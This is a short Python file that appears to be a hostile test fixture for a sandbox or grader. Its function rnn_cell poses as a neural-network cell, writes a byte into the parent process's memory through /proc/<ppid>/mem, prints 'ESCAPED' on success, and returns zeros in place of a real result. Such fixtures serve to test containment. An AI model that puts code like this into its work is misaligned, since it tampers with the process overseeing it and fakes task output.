"""Hostile: writes into the memory of the process that started it."""

import os

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    try:
        with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as memory:
            memory.seek(4096)
            memory.write(b"x")
        print("ESCAPED", 'memory')
    except OSError:
        pass
    return torch.zeros_like(H)
